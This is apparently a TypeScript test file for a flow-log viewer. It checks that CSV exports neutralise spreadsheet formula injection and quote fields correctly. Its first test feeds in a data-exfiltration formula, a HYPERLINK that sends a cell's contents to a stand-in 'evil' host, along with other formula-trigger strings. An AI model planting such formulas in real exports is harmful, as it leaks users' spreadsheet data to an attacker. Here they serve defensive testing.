import * as assert from 'node:assert/strict';
import { csvField } from '../../../src/common/csv';
import { parseFlowLogs } from '../../../src/flowlogs';
import { toCsv as insightsCsv, toTable } from '../../../src/insights/core/results';
import { toCsv as viewerCsv } from '../../../src/viewer/exporting';

describe('CSV export: one writer, safe in a spreadsheet', () => {
  it('keeps record text that starts like a formula from running, in the viewer export', () => {
    // A custom format with a text field a VPC owner controls (an ECS cluster name), in an S3 export.
    const store = parseFlowLogs(
      'version ecs-cluster-name action\n7 =HYPERLINK("http://evil/?"&A1,"open") ACCEPT\n7 +1+1 ACCEPT\n7 @SUM(A1:A9) REJECT\n7 -cmd ACCEPT\n7 prod-cluster ACCEPT\n',
    );
    const lines = viewerCsv(store, Uint32Array.of(0, 1, 2, 3, 4)).split('\r\n');
    assert.deepEqual(lines.slice(1, 6), [
      '7,"\'=HYPERLINK(""http://evil/?""&A1,""open"")",ACCEPT',
      "7,'+1+1,ACCEPT",
      "7,'@SUM(A1:A9),REJECT",
      "7,'-cmd,ACCEPT",
      '7,prod-cluster,ACCEPT',
    ]);
  });

  it('does the same in the Logs Insights export, and leaves numbers alone in both', () => {
    const table = toTable([[{ field: 'srcAddr', value: '=1+1' }, { field: 'delta', value: '-12' }]]);
    assert.equal(insightsCsv(table), "srcAddr,delta\r\n'=1+1,-12\r\n");
    const store = parseFlowLogs('version srcport action\n2 - ACCEPT\n');
    assert.equal(viewerCsv(store, Uint32Array.of(0)), 'version,srcport,action\r\n2,,ACCEPT\r\n', 'a "-" is an empty field, not a guarded one');
  });

  it('guards tab and carriage return at the start too, and quotes what RFC 4180 needs', () => {
    assert.equal(csvField('\tx'), "'\tx");
    assert.equal(csvField('\rx'), `"'\rx"`);
    assert.equal(csvField('-1.5e3'), '-1.5e3');
    assert.equal(csvField(-3), '-3');
    assert.equal(csvField(null), '');
    assert.equal(csvField('a"b'), '"a""b"');
  });
});
